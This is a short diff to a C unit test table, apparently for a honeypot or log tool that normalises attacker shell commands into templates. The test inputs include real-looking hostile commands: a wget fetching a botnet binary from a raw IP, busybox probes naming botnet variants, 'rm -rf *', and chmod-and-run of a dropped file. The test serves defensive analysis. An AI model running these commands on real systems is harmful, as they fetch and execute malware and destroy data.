@@ -52,6 +52,7 @@ test_lines(void **state)
 		{ "uname -a", "uname -a" },
 		{ "  /usr/bin/wget   http://1.2.3.4:8080/bot.arm7  ", "wget http://<ip>:<n>/bot.<arch>" },
 		{ "/bin/busybox FBOT", "busybox FBOT" },
+		{ "/bin/busybox PFBGP; /bin/busybox OWARI; busybox PFBGP x", "busybox <rand>|busybox OWARI|busybox <rand> x" },
 		{ "cd /tmp || cd /var/run; rm -rf *", "cd /tmp|cd /var/run|rm -rf *" },
 		{ "cd /tmp && chmod +x BUwTrLEj && bash -c ./BUwTrLEj", "cd /tmp|chmod +x <rand>|bash -c ./<rand>|./<rand>" },
 		{ "scp -t /tmp/awI12Q36", "scp -t /tmp/<rand>" },
